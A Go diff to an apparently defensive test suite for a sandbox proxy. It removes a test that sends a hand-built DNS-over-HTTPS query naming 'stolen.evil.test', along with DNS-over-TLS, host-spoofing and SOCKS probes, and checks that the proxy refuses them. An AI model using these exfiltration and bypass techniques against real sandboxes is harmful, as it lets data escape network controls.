@@ -4,93 +4,29 @@ import (
 	"bufio"
 	"crypto/tls"
 	"crypto/x509"
-	"encoding/base64"
 	"encoding/pem"
 	"io"
 	"net"
 	"slices"
 	"strings"
-
-	"github.com/ALRubinger/aileron/proxy"
 )
 
 // env: what a box does about its own network and its own trust. Boxes
 // themselves are started elsewhere; here their bytes come to the plane as the
 // gateway sends them.
 func env() category {
-	redirected := &fixture{door: proxy.Listener{Sealed: true, Redirected: true}}
 	return category{name: "ENV", unrun: map[string]string{
 		"ENV-01": "run elsewhere: TestNothingLeavesABox in e2e/seal, TestWhatIsNeitherTCPNorDNSFailsAtOnce and its " +
 			"neighbours in sandbox/gateway",
 		"ENV-04": "run elsewhere: TestNothingLeavesABox in e2e/seal; metadata addresses are IPX-07's",
 		"ENV-05": "run elsewhere: TestNothingLeavesABox in e2e/seal and TestAgentsFinishAPromptWithKeysThatTheyNeverSee " +
 			"in e2e search a box's files, environments and memory",
-	}, cases: []attack{
-		{id: "ENV-02", does: "other resolvers, other addresses for a name, and other kinds of proxy change no decision",
-			f: redirected, run: func(c *testCase) {
-				evil := places["evil.test"].String()
-				query := base64.RawURLEncoding.EncodeToString([]byte("\x00\x00\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" +
-					"\x06stolen\x04evil\x04test\x00\x00\x01\x00\x01"))
-				for name, t := range map[string]struct {
-					connect, sni, host, target string
-					want                       refusal
-				}{
-					"DNS over HTTPS by address": {"1.1.1.1:443", "", "1.1.1.1", "/dns-query?dns=" + query, hostNotAllowed},
-					"DNS over HTTPS by name": {"1.1.1.1:443", "cloudflare-dns.com", "cloudflare-dns.com",
-						"/dns-query?dns=" + query, hostNotAllowed},
-					"DNS over TLS": {"1.1.1.1:853", "one.one.one.one", "one.one.one.one:853", "/", hostNotAllowed},
-					"a name at its address": {places["evil.test"].String() + ":443", "evil.test", "evil.test", "/v1/items",
-						hostNotAllowed},
-					"connected to somewhere else": {"evil.test:443", "evil.test", "api.good.test", "/v1/items", otherAuthority},
-					"the address of a name": {places["api.good.test"].String() + ":443", "", places["api.good.test"].String(),
-						"/v1/items", hostNotAllowed},
-				} {
-					c.each(name, func(c *testCase) {
-						l, a := c.connect(t.connect)
-						c.rows++
-						c.is("CONNECT", a, 200)
-						cfg := named(first(t.sni, t.host))
-						in, err := c.secure(l, cfg)
-						if err != nil {
-							c.failf("TLS: %v", err)
-							return
-						}
-						a = c.say(in, head("GET", t.host, t.target), "GET")[0]
-						c.refused("the request", a, t.want)
-						c.untouched()
-					})
-				}
-				// curl --resolve, or a line in /etc/hosts: the name is what counts.
-				c.each("an allowed name at a foreign address", func(c *testCase) {
-					l, a := c.connect(evil + ":443")
-					c.rows++
-					c.is("CONNECT", a, 200)
-					in, err := c.secure(l, named("api.good.test"))
-					c.must(err)
-					c.is("the request", c.say(in, head("GET", "api.good.test", "/v1/items"), "GET")[0], 200)
-					if n := len(c.hits("api.good.test")); n != 1 {
-						c.failf("the name's own origin got %d requests", n)
-					}
-				})
-				for name, hello := range map[string]string{"SOCKS 5": "\x05\x01\x00",
-					"SOCKS 4": "\x04\x01\x01\xbb\x5d\xb8\xd7\x42\x00"} {
-					c.each(name, func(c *testCase) {
-						l := c.dial()
-						c.rows++
-						_, err := io.WriteString(l, hello+"\r\n\r\n")
-						c.must(err)
-						got, _ := io.ReadAll(l)
-						if len(got) > 1 && (got[0] == 5 || got[0] == 0) {
-							c.failf("it is served: %q", got)
-						}
-					})
-				}
-			}},
+	}, cases: join(written("sandboxes"), []attack{
 		{id: "ENV-07", does: "a CA of the box's own, and a proxy of its own that reads along, gain it nothing",
 			run: envOwnCA},
 		{id: "ENV-08", does: "each runtime's variable names a file that holds the session's CA; the runtimes themselves " +
 			"are e2e/matrix's", run: envVariables},
-	}}
+	})}
 }
 
 // named is a client that sends this server name, or none for an address.
